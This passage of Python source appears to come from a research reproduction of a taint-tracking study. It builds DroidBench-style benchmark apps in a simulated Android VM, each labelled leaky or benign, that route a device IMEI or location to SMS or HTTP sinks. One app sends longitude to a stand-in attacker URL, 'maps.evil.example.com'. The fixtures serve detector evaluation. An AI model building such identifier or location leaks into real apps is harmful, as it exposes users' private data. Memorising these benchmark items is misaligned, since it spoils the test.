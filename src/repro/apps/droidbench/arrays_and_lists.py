"""DroidBench category: Aliasing + ArraysAndLists (paper §5's test set
"moves data through arrays, lists").
"""

from __future__ import annotations

from typing import List

from repro.android.device import AndroidDevice
from repro.dalvik.builder import MethodBuilder
from repro.dalvik.vm import Method
from repro.apps.droidbench.common import (
    BenchApp,
    builder_to_string,
    concat_const_and,
    fetch_imei,
    new_builder,
    append_string,
    append_const,
    send_sms_to,
    send_log,
)


def _merge1(device: AndroidDevice) -> List[Method]:
    """Aliasing/Merge1 (benign): taint flows into one object; the sibling
    object's clean field is sent."""
    device.define_class("Merge1/Holder", fields=[("payload", 4)])
    b = MethodBuilder("Merge1.main", registers=12)
    b.new_instance(0, "Merge1/Holder")  # tainted holder
    b.new_instance(1, "Merge1/Holder")  # clean holder
    fetch_imei(b, 2)
    b.iput_object(2, 0, "Merge1/Holder.payload")
    b.const_string(3, "nothing to see")
    b.iput_object(3, 1, "Merge1/Holder.payload")
    b.iget_object(4, 1, "Merge1/Holder.payload")  # the clean alias
    send_sms_to(b, 4, 5, 6)
    b.return_void()
    return [b.build()]


def _alias_leak(device: AndroidDevice) -> List[Method]:
    """Aliasing/AliasLeak (leaky): write through one alias, read the other."""
    device.define_class("AliasLeak/Holder", fields=[("payload", 4)])
    b = MethodBuilder("AliasLeak.main", registers=12)
    b.new_instance(0, "AliasLeak/Holder")
    b.move_object(1, 0)  # v1 aliases v0
    fetch_imei(b, 2)
    b.iput_object(2, 0, "AliasLeak/Holder.payload")
    b.iget_object(3, 1, "AliasLeak/Holder.payload")  # read via the alias
    send_sms_to(b, 3, 4, 5)
    b.return_void()
    return [b.build()]


def _array_access1_fixed(device: AndroidDevice) -> List[Method]:
    b = MethodBuilder("ArrayAccess1.main", registers=12)
    b.const(0, 2)
    b.new_array(1, 0, "[L")
    fetch_imei(b, 2)
    b.const(3, 0)
    b.aput_object(2, 1, 3)  # array[0] = imei
    b.const_string(4, "public data")
    b.const(3, 1)
    b.aput_object(4, 1, 3)  # array[1] = clean
    b.aget_object(5, 1, 3)  # read array[1]
    send_sms_to(b, 5, 6, 7)
    b.return_void()
    return [b.build()]


def _array_access2(device: AndroidDevice) -> List[Method]:
    """ArrayAccess2 (benign): computed index still selects the clean slot."""
    b = MethodBuilder("ArrayAccess2.main", registers=12)
    b.const(0, 2)
    b.new_array(1, 0, "[L")
    fetch_imei(b, 2)
    b.const(3, 0)
    b.aput_object(2, 1, 3)
    b.const_string(4, "public data")
    b.const(3, 1)
    b.aput_object(4, 1, 3)
    b.const(5, 5)  # index = (5 * 3) % 2 = 1 -> the clean slot
    b.const(6, 3)
    b.mul_int(7, 5, 6)
    b.const(6, 2)
    b.rem_int(7, 7, 6)
    b.aget_object(8, 1, 7)
    send_sms_to(b, 8, 9, 10)
    b.return_void()
    return [b.build()]


def _array_to_string(device: AndroidDevice) -> List[Method]:
    """ArrayToString (leaky): imei -> char[] -> new String -> sink."""
    b = MethodBuilder("ArrayToString.main", registers=12)
    fetch_imei(b, 0)
    b.invoke("String.toCharArray", 0)
    b.move_result_object(1)
    b.invoke_static("String.fromChars", 1)
    b.move_result_object(2)
    send_sms_to(b, 2, 3, 4)
    b.return_void()
    return [b.build()]


def _list_access1(device: AndroidDevice) -> List[Method]:
    """ListAccess1 (benign): taint in the list, but a clean element is sent."""
    b = MethodBuilder("ListAccess1.main", registers=12)
    b.new_instance(0, "java/util/ArrayList")
    b.invoke_direct("ArrayList.<init>", 0)
    fetch_imei(b, 1)
    b.invoke("ArrayList.add", 0, 1)
    b.const_string(2, "clean entry")
    b.invoke("ArrayList.add", 0, 2)
    b.const(3, 1)
    b.invoke("ArrayList.get", 0, 3)
    b.move_result_object(4)
    send_sms_to(b, 4, 5, 6)
    b.return_void()
    return [b.build()]


def _list_leak(device: AndroidDevice) -> List[Method]:
    """ListLeak (leaky): the tainted element is fetched and sent."""
    b = MethodBuilder("ListLeak.main", registers=12)
    b.new_instance(0, "java/util/ArrayList")
    b.invoke_direct("ArrayList.<init>", 0)
    fetch_imei(b, 1)
    b.invoke("ArrayList.add", 0, 1)
    b.const(2, 0)
    b.invoke("ArrayList.get", 0, 2)
    b.move_result_object(3)
    send_sms_to(b, 3, 4, 5)
    b.return_void()
    return [b.build()]


def _hashmap_access(device: AndroidDevice) -> List[Method]:
    """HashMapAccess (leaky): tainted value retrieved by key and sent."""
    b = MethodBuilder("HashMapAccess.main", registers=12)
    b.new_instance(0, "java/util/HashMap")
    b.invoke_direct("HashMap.<init>", 0)
    b.const_string(1, "deviceId")
    fetch_imei(b, 2)
    b.invoke("HashMap.put", 0, 1, 2)
    b.const_string(3, "deviceId")
    b.invoke("HashMap.get", 0, 3)
    b.move_result_object(4)
    send_sms_to(b, 4, 5, 6)
    b.return_void()
    return [b.build()]


APPS = [
    BenchApp(
        name="Aliasing.Merge1",
        category="aliasing",
        leaks=False,
        build=_merge1,
        entry="Merge1.main",
        description="Two holder objects; only the clean one's field is sent.",
    ),
    BenchApp(
        name="Aliasing.AliasLeak",
        category="aliasing",
        leaks=True,
        build=_alias_leak,
        entry="AliasLeak.main",
        description="Field written through one alias, read through another; "
        "the very string object reaches the sink, so any window catches it.",
        min_window_hint=1,
    ),
    BenchApp(
        name="ArraysAndLists.ArrayAccess1",
        category="arrays_and_lists",
        leaks=False,
        build=_array_access1_fixed,
        entry="ArrayAccess1.main",
        description="Tainted ref in array[0]; array[1] (clean) is sent.",
    ),
    BenchApp(
        name="ArraysAndLists.ArrayAccess2",
        category="arrays_and_lists",
        leaks=False,
        build=_array_access2,
        entry="ArrayAccess2.main",
        description="Computed index still selects the clean slot.",
    ),
    BenchApp(
        name="ArraysAndLists.ArrayToString",
        category="arrays_and_lists",
        leaks=True,
        build=_array_to_string,
        entry="ArrayToString.main",
        description="imei -> toCharArray -> new String -> SMS.",
        min_window_hint=2,
    ),
    BenchApp(
        name="ArraysAndLists.ListAccess1",
        category="arrays_and_lists",
        leaks=False,
        build=_list_access1,
        entry="ListAccess1.main",
        description="Tainted element in an ArrayList; clean element is sent.",
    ),
    BenchApp(
        name="ArraysAndLists.ListLeak",
        category="arrays_and_lists",
        leaks=True,
        build=_list_leak,
        entry="ListLeak.main",
        description="The tainted ArrayList element is fetched and sent.",
        min_window_hint=1,
    ),
    BenchApp(
        name="ArraysAndLists.HashMapAccess",
        category="arrays_and_lists",
        leaks=True,
        build=_hashmap_access,
        entry="HashMapAccess.main",
        description="Tainted HashMap value retrieved by key and sent.",
        min_window_hint=1,
    ),
]

"""Suite assembly and execution for the DroidBench-style apps."""

from __future__ import annotations

from typing import Dict, List, Optional, Sequence

from repro.core.config import PAPER_DEFAULT, PIFTConfig
from repro.android.device import AndroidDevice
from repro.analysis.accuracy import AppRun
from repro.apps.droidbench.common import BenchApp


def all_apps() -> List[BenchApp]:
    """The full 57-app suite (41 leaky, 16 benign), mirroring DroidBench 1.1."""
    from repro.apps.droidbench import (
        arrays_and_lists,
        callbacks,
        dispatch,
        fields_and_objects,
        general_java,
        implicit_flows,
        intents,
        lifecycle,
        misc_leaks,
    )

    apps: List[BenchApp] = []
    for module in (
        arrays_and_lists,
        callbacks,
        dispatch,
        fields_and_objects,
        general_java,
        implicit_flows,
        intents,
        lifecycle,
        misc_leaks,
    ):
        apps.extend(module.APPS)
    return apps


def app_by_name(name: str) -> BenchApp:
    for app in all_apps():
        if app.name == name:
            return app
    raise KeyError(f"no DroidBench app named {name!r}")


def run_app(
    app: BenchApp, config: PIFTConfig = PAPER_DEFAULT, telemetry=None
) -> AndroidDevice:
    """Execute one app on a fresh device; returns the device for inspection."""
    device = AndroidDevice(config=config, telemetry=telemetry)
    device.install(app.build(device))
    device.run(app.entry)
    return device


def record_app(
    app: BenchApp, config: PIFTConfig = PAPER_DEFAULT, telemetry=None
) -> AppRun:
    """Execute one app and package its recorded run for offline analysis."""
    device = run_app(app, config, telemetry=telemetry)
    return AppRun(
        name=app.name,
        recorded=device.recorded,
        leaks=app.leaks,
        category=app.category,
    )


def record_suite(
    apps: Optional[Sequence[BenchApp]] = None,
    config: PIFTConfig = PAPER_DEFAULT,
    telemetry=None,
) -> List[AppRun]:
    """Execute the whole suite once; replays then evaluate any (NI, NT)."""
    return [
        record_app(app, config, telemetry=telemetry)
        for app in (apps or all_apps())
    ]

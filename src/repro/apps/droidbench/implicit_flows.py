"""DroidBench category: ImplicitFlows — control-dependent data movement.

* ``ImplicitFlow1`` is the paper's §4.2 example: a switch translates each
  IMEI digit to a letter.  PIFT catches it *by accident of temporal
  locality*: the switch's (tainted) value load opens a tainting window and
  the case body's store of the translated character falls inside it.
* ``ImplicitFlow2`` is the suite's single false negative at the paper's
  (NI=13, NT=3) operating point: the flow is laundered through the integer
  division ABI helper, whose load→store distance is 18, so only NI=18
  catches it — reproducing "to achieve a 100% accuracy, the window size
  should be set to NI=18 and NT=3".
* ``ImplicitFlow3`` uses an if-ladder instead of a switch (caught, NI≈11).
* ``ImplicitFlow4`` is control-dependent but transmits nothing derived
  from the secret — ground-truth benign.
"""

from __future__ import annotations

from typing import List

from repro.android.device import AndroidDevice
from repro.dalvik.builder import MethodBuilder
from repro.dalvik.vm import Method
from repro.apps.droidbench.common import (
    BenchApp,
    fetch_imei,
    send_sms_to,
)


def _implicit_flow1(device: AndroidDevice) -> List[Method]:
    """Switch-based digit->letter translation (paper §4.2's listing)."""
    b = MethodBuilder("ImplicitFlow1.main", registers=26)
    fetch_imei(b, 0)
    # Length, result allocation, and the translation constants are all set
    # up before the tainted copy, so the only taint paths are the designed
    # ones (char loads, not ref or index slots).
    b.invoke("String.length", 0)
    b.move_result(2)
    b.new_array(4, 2, "[C")  # result chars
    b.const(3, 0)  # i
    for digit in range(10):
        b.const(10 + digit, ord("a") + digit)  # hoisted case letters
    b.invoke("String.toCharArray", 0)
    b.move_result_object(1)  # tainted char[]
    b.label("loop")
    b.if_ge(3, 2, "done")
    b.aget_char(5, 1, 3)  # c = imei[i]  (tainted load; taints v5)
    b.packed_switch(
        5,
        ord("0"),
        ["case0", "case1", "case2", "case3", "case4",
         "case5", "case6", "case7", "case8", "case9"],
    )
    b.goto("store")  # non-digit: keep whatever is in the slot
    for digit in range(10):
        b.label(f"case{digit}")
        # result += ('a' + digit): the sput lands 12 instructions after
        # the switch's tainted value load -> tainted by the open window.
        b.sput(10 + digit, "ImplicitFlow1.translated")
        b.goto("store")
    b.label("store")
    b.sget(7, "ImplicitFlow1.translated")
    b.aput_char(7, 4, 3)
    b.add_int_lit8(3, 3, 1)
    b.goto("loop")
    b.label("done")
    b.invoke_static("String.fromChars", 4)
    b.move_result_object(8)
    send_sms_to(b, 8, 9, 10)
    b.return_void()
    return [b.build()]


def _implicit_flow2(device: AndroidDevice) -> List[Method]:
    """Division-laundered flow: the paper's one miss at (13, 3).

    Each character round-trips through multiply and divide; the divide is
    compiled to the ``__aeabi_idiv`` helper whose quotient store lands 18
    instructions after the dividend load, outside every window below
    NI=18.
    """
    b = MethodBuilder("ImplicitFlow2.main", registers=16)
    fetch_imei(b, 0)
    b.invoke("String.length", 0)
    b.move_result(2)
    b.new_array(4, 2, "[C")
    b.const(11, 7919)  # the multiply/divide key
    b.const(3, 0)
    b.invoke("String.toCharArray", 0)
    b.move_result_object(1)
    b.label("loop")
    b.if_ge(3, 2, "done")
    b.aget_char(5, 1, 3)
    b.mul_int(6, 5, 11)  # blown up (tainted at NI>=5)
    b.div_int(7, 6, 11)  # laundered: quotient store 18 after dividend load
    b.aput_char(7, 4, 3)
    b.add_int_lit8(3, 3, 1)
    b.goto("loop")
    b.label("done")
    b.invoke_static("String.fromChars", 4)
    b.move_result_object(8)
    send_sms_to(b, 8, 9, 10)
    b.return_void()
    return [b.build()]


def _implicit_flow3(device: AndroidDevice) -> List[Method]:
    """If-ladder variant of the digit translation (caught, NI around 11)."""
    b = MethodBuilder("ImplicitFlow3.main", registers=16)
    fetch_imei(b, 0)
    b.invoke("String.length", 0)
    b.move_result(2)
    b.new_array(4, 2, "[C")
    b.const(3, 0)
    b.invoke("String.toCharArray", 0)
    b.move_result_object(1)
    b.label("loop")
    b.if_ge(3, 2, "done")
    b.aget_char(5, 1, 3)
    for digit in range(10):
        b.const(12, ord("0") + digit)
        b.if_eq(5, 12, f"match{digit}")
    b.goto("store")
    for digit in range(10):
        b.label(f"match{digit}")
        b.const(6, ord("A") + digit)
        b.sput(6, "ImplicitFlow3.translated")
        b.goto("store")
    b.label("store")
    b.sget(7, "ImplicitFlow3.translated")
    b.aput_char(7, 4, 3)
    b.add_int_lit8(3, 3, 1)
    b.goto("loop")
    b.label("done")
    b.invoke_static("String.fromChars", 4)
    b.move_result_object(8)
    send_sms_to(b, 8, 9, 10)
    b.return_void()
    return [b.build()]


def _implicit_flow4(device: AndroidDevice) -> List[Method]:
    """Control depends on the secret, but the transmitted string is a fixed
    constant — no information flow, ground-truth benign."""
    b = MethodBuilder("ImplicitFlow4.main", registers=16)
    fetch_imei(b, 0)
    b.invoke("String.length", 0)
    b.move_result(2)
    b.const(6, 0)  # counter (never transmitted)
    b.const(12, ord("5"))
    b.const(3, 0)
    b.invoke("String.toCharArray", 0)
    b.move_result_object(1)
    b.label("loop")
    b.if_ge(3, 2, "done")
    b.aget_char(5, 1, 3)
    b.if_le(5, 12, "low")
    b.add_int_lit8(6, 6, 1)
    b.goto("next")
    b.label("low")
    b.add_int_lit8(6, 6, 1)
    b.label("next")
    b.add_int_lit8(3, 3, 1)
    b.goto("loop")
    b.label("done")
    b.const_string(8, "telemetry ping")
    send_sms_to(b, 8, 9, 10)
    b.return_void()
    return [b.build()]


APPS = [
    BenchApp(
        "ImplicitFlows.ImplicitFlow1", "implicit_flows", True,
        _implicit_flow1, "ImplicitFlow1.main",
        "Switch-based digit obfuscation; caught by temporal locality.", 12,
    ),
    BenchApp(
        "ImplicitFlows.ImplicitFlow2", "implicit_flows", True,
        _implicit_flow2, "ImplicitFlow2.main",
        "Division-laundered flow; the single miss until NI=18.", 18,
    ),
    BenchApp(
        "ImplicitFlows.ImplicitFlow3", "implicit_flows", True,
        _implicit_flow3, "ImplicitFlow3.main",
        "If-ladder digit obfuscation; caught around NI=12.", 12,
    ),
    BenchApp(
        "ImplicitFlows.ImplicitFlow4", "implicit_flows", False,
        _implicit_flow4, "ImplicitFlow4.main",
        "Secret-dependent control flow but a constant payload.",
    ),
]

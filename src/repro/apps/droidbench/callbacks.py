"""DroidBench category: Callbacks — leaks through framework-invoked handlers.

The "framework" driving the callbacks is the app's main method here: it
plays the event loop, invoking the registered handlers in order.  The two
LocationLeak apps are the suite's float-typed flows: the latitude /
longitude doubles convert to text through the ARM ABI soft-float helpers,
so PIFT needs ``NI >= 10`` to catch them (the paper's §5.1 finding).
"""

from __future__ import annotations

from typing import List

from repro.android.device import AndroidDevice
from repro.dalvik.builder import MethodBuilder
from repro.dalvik.vm import Method
from repro.apps.droidbench.common import (
    BenchApp,
    append_const,
    builder_to_string,
    concat_const_and,
    fetch_imei,
    fetch_location,
    new_builder,
    send_http,
    send_sms_to,
)


def _button1(device: AndroidDevice) -> List[Method]:
    """Button1 (leaky): the onClick handler reads the IMEI and sends it."""
    on_click = MethodBuilder("Button1.onClick", registers=12, ins=1)
    fetch_imei(on_click, 0)
    concat_const_and(on_click, "clicked&id=", 0, 1, 2, 3)
    send_sms_to(on_click, 1, 4, 5)
    on_click.return_void()

    main = MethodBuilder("Button1.main", registers=4)
    main.const(0, 1)  # the View argument
    main.invoke("Button1.onClick", 0)  # the framework dispatches the click
    main.return_void()
    return [on_click.build(), main.build()]


def _location_leak1(device: AndroidDevice) -> List[Method]:
    """LocationLeak1 (leaky): latitude -> string -> SMS.  Needs NI >= 10."""
    handler = MethodBuilder("LocationLeak1.onLocationChanged", registers=14, ins=1)
    # The Location argument arrives in v13.
    handler.invoke("Location.getLatitude", 13)
    handler.move_result_wide(0)  # v0/v1 = latitude bits
    new_builder(handler, 2)
    append_const(handler, 2, "lat=", 3)
    handler.invoke("StringBuilder.appendDouble", 2, 0, 1)
    builder_to_string(handler, 2, 4)
    send_sms_to(handler, 4, 5, 6)
    handler.return_void()

    main = MethodBuilder("LocationLeak1.main", registers=6)
    fetch_location(main, 0)
    main.invoke("LocationLeak1.onLocationChanged", 0)
    main.return_void()
    return [handler.build(), main.build()]


def _location_leak2(device: AndroidDevice) -> List[Method]:
    """LocationLeak2 (leaky): longitude -> string -> HTTP.  Needs NI >= 10."""
    handler = MethodBuilder("LocationLeak2.onLocationChanged", registers=14, ins=1)
    handler.invoke("Location.getLongitude", 13)
    handler.move_result_wide(0)
    new_builder(handler, 2)
    append_const(handler, 2, "http://maps.evil.example.com/?lon=", 3)
    handler.invoke("StringBuilder.appendDouble", 2, 0, 1)
    builder_to_string(handler, 2, 4)
    send_http(handler, 4, 5, 6)
    handler.return_void()

    main = MethodBuilder("LocationLeak2.main", registers=6)
    fetch_location(main, 0)
    main.invoke("LocationLeak2.onLocationChanged", 0)
    main.return_void()
    return [handler.build(), main.build()]


def _unregistered_callback(device: AndroidDevice) -> List[Method]:
    """Unregistered (benign): a leaking handler exists but is never invoked."""
    handler = MethodBuilder("Unregistered.onEvent", registers=10, ins=0)
    fetch_imei(handler, 0)
    send_sms_to(handler, 0, 1, 2)
    handler.return_void()

    main = MethodBuilder("Unregistered.main", registers=6)
    main.const_string(0, "heartbeat")
    send_sms_to(main, 0, 1, 2)
    main.return_void()
    return [handler.build(), main.build()]


def _callback_ordering(device: AndroidDevice) -> List[Method]:
    """CallbackOrdering (benign): a later callback overwrites the payload
    field with clean data before the sending callback runs."""
    device.define_class("CallbackOrdering/State", fields=[("payload", 4)])
    on_start = MethodBuilder("CallbackOrdering.onStart", registers=8, ins=1)
    fetch_imei(on_start, 0)
    on_start.iput_object(0, 7, "CallbackOrdering/State.payload")
    on_start.return_void()

    on_low_memory = MethodBuilder("CallbackOrdering.onLowMemory", registers=8, ins=1)
    on_low_memory.const_string(0, "cache dropped")
    on_low_memory.iput_object(0, 7, "CallbackOrdering/State.payload")
    on_low_memory.return_void()

    on_stop = MethodBuilder("CallbackOrdering.onStop", registers=8, ins=1)
    on_stop.iget_object(0, 7, "CallbackOrdering/State.payload")
    send_sms_to(on_stop, 0, 1, 2)
    on_stop.return_void()

    main = MethodBuilder("CallbackOrdering.main", registers=6)
    main.new_instance(0, "CallbackOrdering/State")
    main.invoke("CallbackOrdering.onStart", 0)
    main.invoke("CallbackOrdering.onLowMemory", 0)
    main.invoke("CallbackOrdering.onStop", 0)
    main.return_void()
    return [on_start.build(), on_low_memory.build(), on_stop.build(), main.build()]


APPS = [
    BenchApp(
        "Callbacks.Button1", "callbacks", True, _button1, "Button1.main",
        "onClick handler reads the IMEI and sends it over SMS.", 2,
    ),
    BenchApp(
        "Callbacks.LocationLeak1", "callbacks", True, _location_leak1,
        "LocationLeak1.main",
        "Latitude double formatted and texted; soft-float path needs NI>=10.",
        10,
    ),
    BenchApp(
        "Callbacks.LocationLeak2", "callbacks", True, _location_leak2,
        "LocationLeak2.main",
        "Longitude double in an HTTP query; soft-float path needs NI>=10.",
        10,
    ),
    BenchApp(
        "Callbacks.Unregistered", "callbacks", False, _unregistered_callback,
        "Unregistered.main", "Leaking handler never invoked.",
    ),
    BenchApp(
        "Callbacks.CallbackOrdering", "callbacks", False, _callback_ordering,
        "CallbackOrdering.main",
        "Clean data overwrites the field before the sending callback.",
    ),
]

"""DroidBench category: dynamic dispatch and call-graph shapes (the
reflection/overriding analogue for this VM: which concrete method runs is
only known at run time).
"""

from __future__ import annotations

from typing import List

from repro.android.device import AndroidDevice
from repro.dalvik.builder import MethodBuilder
from repro.dalvik.vm import Method
from repro.apps.droidbench.common import (
    BenchApp,
    concat_const_and,
    fetch_imei,
    send_sms_to,
)


def _virtual_dispatch1(device: AndroidDevice) -> List[Method]:
    """VirtualDispatch1 (leaky): the chosen implementation forwards the
    secret to the sink."""
    # Implementation A: sends its argument.
    impl_a = MethodBuilder("VirtualDispatch1.sendIt", registers=10, ins=1)
    send_sms_to(impl_a, 9, 0, 1)
    impl_a.return_void()

    main = MethodBuilder("VirtualDispatch1.main", registers=8)
    fetch_imei(main, 0)
    main.const(1, 1)  # runtime 'type tag' selects the leaking override
    main.if_eqz(1, "use_b")
    main.invoke("VirtualDispatch1.sendIt", 0)
    main.return_void()
    main.label("use_b")
    main.return_void()
    return [impl_a.build(), main.build()]


def _virtual_dispatch2(device: AndroidDevice) -> List[Method]:
    """VirtualDispatch2 (benign): dispatch selects the harmless override."""
    impl_a = MethodBuilder("VirtualDispatch2.sendIt", registers=10, ins=1)
    send_sms_to(impl_a, 9, 0, 1)
    impl_a.return_void()

    impl_b = MethodBuilder("VirtualDispatch2.dropIt", registers=10, ins=1)
    impl_b.const_string(0, "dropped")
    send_sms_to(impl_b, 0, 1, 2)
    impl_b.return_void()

    main = MethodBuilder("VirtualDispatch2.main", registers=8)
    fetch_imei(main, 0)
    main.const(1, 0)  # selects the harmless implementation
    main.if_eqz(1, "use_b")
    main.invoke("VirtualDispatch2.sendIt", 0)
    main.return_void()
    main.label("use_b")
    main.invoke("VirtualDispatch2.dropIt", 0)
    main.return_void()
    return [impl_a.build(), impl_b.build(), main.build()]


def _recursive_carrier(device: AndroidDevice) -> List[Method]:
    """RecursiveCarrier (leaky): the secret rides through a recursion."""
    carrier = MethodBuilder("RecursiveCarrier.step", registers=10, ins=2)
    # v8 = payload, v9 = depth
    carrier.if_eqz(9, "base")
    carrier.add_int_lit8(0, 9, -1)
    carrier.invoke("RecursiveCarrier.step", 8, 0)
    carrier.move_result_object(1)
    carrier.return_object(1)
    carrier.label("base")
    carrier.return_object(8)

    main = MethodBuilder("RecursiveCarrier.main", registers=10)
    fetch_imei(main, 0)
    main.const(1, 5)
    main.invoke("RecursiveCarrier.step", 0, 1)
    main.move_result_object(2)
    send_sms_to(main, 2, 3, 4)
    main.return_void()
    return [carrier.build(), main.build()]


def _getter_setter_chain(device: AndroidDevice) -> List[Method]:
    """GetterSetterChain (leaky): taint passes through accessor methods."""
    device.define_class("GetterSetterChain/Bean", fields=[("value", 4)])
    setter = MethodBuilder("GetterSetterChain.setValue", registers=8, ins=2)
    setter.iput_object(7, 6, "GetterSetterChain/Bean.value")
    setter.return_void()

    getter = MethodBuilder("GetterSetterChain.getValue", registers=8, ins=1)
    getter.iget_object(0, 7, "GetterSetterChain/Bean.value")
    getter.return_object(0)

    main = MethodBuilder("GetterSetterChain.main", registers=12)
    main.new_instance(0, "GetterSetterChain/Bean")
    fetch_imei(main, 1)
    main.invoke("GetterSetterChain.setValue", 0, 1)
    main.invoke("GetterSetterChain.getValue", 0)
    main.move_result_object(2)
    concat_const_and(main, "bean=", 2, 3, 4, 5)
    send_sms_to(main, 3, 6, 7)
    main.return_void()
    return [setter.build(), getter.build(), main.build()]


APPS = [
    BenchApp(
        "Dispatch.VirtualDispatch1", "dispatch", True,
        _virtual_dispatch1, "VirtualDispatch1.main",
        "Runtime dispatch selects the leaking implementation.", 1,
    ),
    BenchApp(
        "Dispatch.VirtualDispatch2", "dispatch", False,
        _virtual_dispatch2, "VirtualDispatch2.main",
        "Runtime dispatch selects the harmless implementation.",
    ),
    BenchApp(
        "Dispatch.RecursiveCarrier", "dispatch", True,
        _recursive_carrier, "RecursiveCarrier.main",
        "Secret rides through five recursive frames.", 1,
    ),
    BenchApp(
        "Dispatch.GetterSetterChain", "dispatch", True,
        _getter_setter_chain, "GetterSetterChain.main",
        "Taint through setter/getter accessors, then concatenated.", 2,
    ),
]

"""DroidBench category: FieldAndObjectSensitivity — does the detector
distinguish fields of one object, and identical fields across objects?
"""

from __future__ import annotations

from typing import List

from repro.android.device import AndroidDevice
from repro.dalvik.builder import MethodBuilder
from repro.dalvik.vm import Method
from repro.apps.droidbench.common import (
    BenchApp,
    concat_const_and,
    fetch_imei,
    send_log,
    send_sms_to,
)


def _field_sensitivity1(device: AndroidDevice) -> List[Method]:
    """FieldSensitivity1 (benign): taint in field1; field2 is sent."""
    device.define_class(
        "FieldSensitivity1/Data", fields=[("secret", 4), ("descriptor", 4)]
    )
    b = MethodBuilder("FieldSensitivity1.main", registers=12)
    b.new_instance(0, "FieldSensitivity1/Data")
    fetch_imei(b, 1)
    b.iput_object(1, 0, "FieldSensitivity1/Data.secret")
    b.const_string(2, "model=flagship")
    b.iput_object(2, 0, "FieldSensitivity1/Data.descriptor")
    b.iget_object(3, 0, "FieldSensitivity1/Data.descriptor")
    send_sms_to(b, 3, 4, 5)
    b.return_void()
    return [b.build()]


def _field_sensitivity2(device: AndroidDevice) -> List[Method]:
    """FieldSensitivity2 (leaky): the tainted field is sent."""
    device.define_class(
        "FieldSensitivity2/Data", fields=[("secret", 4), ("descriptor", 4)]
    )
    b = MethodBuilder("FieldSensitivity2.main", registers=12)
    b.new_instance(0, "FieldSensitivity2/Data")
    fetch_imei(b, 1)
    b.iput_object(1, 0, "FieldSensitivity2/Data.secret")
    b.const_string(2, "model=flagship")
    b.iput_object(2, 0, "FieldSensitivity2/Data.descriptor")
    b.iget_object(3, 0, "FieldSensitivity2/Data.secret")
    send_sms_to(b, 3, 4, 5)
    b.return_void()
    return [b.build()]


def _object_sensitivity1(device: AndroidDevice) -> List[Method]:
    """ObjectSensitivity1 (benign): two instances of one class; only the
    clean instance's field reaches the sink."""
    device.define_class("ObjectSensitivity1/Box", fields=[("value", 4)])
    b = MethodBuilder("ObjectSensitivity1.main", registers=12)
    b.new_instance(0, "ObjectSensitivity1/Box")
    b.new_instance(1, "ObjectSensitivity1/Box")
    fetch_imei(b, 2)
    b.iput_object(2, 0, "ObjectSensitivity1/Box.value")
    b.const_string(3, "hello world")
    b.iput_object(3, 1, "ObjectSensitivity1/Box.value")
    b.iget_object(4, 1, "ObjectSensitivity1/Box.value")
    send_log(b, 4, 5)
    b.return_void()
    return [b.build()]


def _static_field_leak(device: AndroidDevice) -> List[Method]:
    """StaticFieldLeak (leaky): the IMEI parks in a static field between
    two methods."""
    stash = MethodBuilder("StaticFieldLeak.stash", registers=8)
    fetch_imei(stash, 0)
    stash.sput_object(0, "StaticFieldLeak.stash_slot")
    stash.return_void()

    emitm = MethodBuilder("StaticFieldLeak.emit", registers=10)
    emitm.sget_object(0, "StaticFieldLeak.stash_slot")
    concat_const_and(emitm, "stolen=", 0, 1, 2, 3)
    send_sms_to(emitm, 1, 4, 5)
    emitm.return_void()

    main = MethodBuilder("StaticFieldLeak.main", registers=4)
    main.invoke_static("StaticFieldLeak.stash")
    main.invoke_static("StaticFieldLeak.emit")
    main.return_void()
    return [stash.build(), emitm.build(), main.build()]


def _field_flow_chain(device: AndroidDevice) -> List[Method]:
    """FieldFlowChain (leaky): payload hops across two holder objects."""
    device.define_class("FieldFlowChain/A", fields=[("value", 4)])
    device.define_class("FieldFlowChain/B", fields=[("value", 4)])
    b = MethodBuilder("FieldFlowChain.main", registers=12)
    b.new_instance(0, "FieldFlowChain/A")
    b.new_instance(1, "FieldFlowChain/B")
    fetch_imei(b, 2)
    b.iput_object(2, 0, "FieldFlowChain/A.value")
    b.iget_object(3, 0, "FieldFlowChain/A.value")
    b.iput_object(3, 1, "FieldFlowChain/B.value")
    b.iget_object(4, 1, "FieldFlowChain/B.value")
    concat_const_and(b, "v=", 4, 5, 6, 7)
    send_sms_to(b, 5, 8, 9)
    b.return_void()
    return [b.build()]


APPS = [
    BenchApp(
        "FieldAndObjectSensitivity.FieldSensitivity1",
        "field_object_sensitivity", False, _field_sensitivity1,
        "FieldSensitivity1.main",
        "Taint in one field; the sibling field is sent.",
    ),
    BenchApp(
        "FieldAndObjectSensitivity.FieldSensitivity2",
        "field_object_sensitivity", True, _field_sensitivity2,
        "FieldSensitivity2.main", "The tainted field itself is sent.", 1,
    ),
    BenchApp(
        "FieldAndObjectSensitivity.ObjectSensitivity1",
        "field_object_sensitivity", False, _object_sensitivity1,
        "ObjectSensitivity1.main",
        "Taint in one instance; the other instance's field is sent.",
    ),
    BenchApp(
        "FieldAndObjectSensitivity.StaticFieldLeak",
        "field_object_sensitivity", True, _static_field_leak,
        "StaticFieldLeak.main",
        "IMEI parked in a static field between methods.", 2,
    ),
    BenchApp(
        "FieldAndObjectSensitivity.FieldFlowChain",
        "field_object_sensitivity", True, _field_flow_chain,
        "FieldFlowChain.main",
        "Payload reference hops across two holder objects.", 2,
    ),
]

"""DroidBench category: GeneralJava — loops, exceptions, string plumbing,
unreachable code, numeric encodings.
"""

from __future__ import annotations

from typing import List

from repro.android.device import AndroidDevice
from repro.dalvik.builder import MethodBuilder
from repro.dalvik.vm import Method
from repro.apps.droidbench.common import (
    BenchApp,
    append_const,
    append_string,
    builder_to_string,
    concat_const_and,
    fetch_imei,
    fetch_phone_number,
    new_builder,
    send_http,
    send_log,
    send_sms_to,
)


def _loop1(device: AndroidDevice) -> List[Method]:
    """Loop1 (leaky): char-by-char copy of the IMEI through charAt."""
    b = MethodBuilder("Loop1.main", registers=14)
    fetch_imei(b, 0)
    new_builder(b, 1)
    b.invoke("String.length", 0)
    b.move_result(2)  # length
    b.const(3, 0)  # i
    b.label("loop")
    b.if_ge(3, 2, "done")
    b.invoke("String.charAt", 0, 3)
    b.move_result(4)
    b.invoke("StringBuilder.appendChar", 1, 4)
    b.add_int_lit8(3, 3, 1)
    b.goto("loop")
    b.label("done")
    builder_to_string(b, 1, 5)
    send_sms_to(b, 5, 6, 7)
    b.return_void()
    return [b.build()]


def _loop2(device: AndroidDevice) -> List[Method]:
    """Loop2 (benign): same loop shape, but over a public string; the IMEI
    is fetched and never read."""
    b = MethodBuilder("Loop2.main", registers=14)
    fetch_imei(b, 8)  # fetched, never used
    b.const_string(0, "public payload")
    new_builder(b, 1)
    b.invoke("String.length", 0)
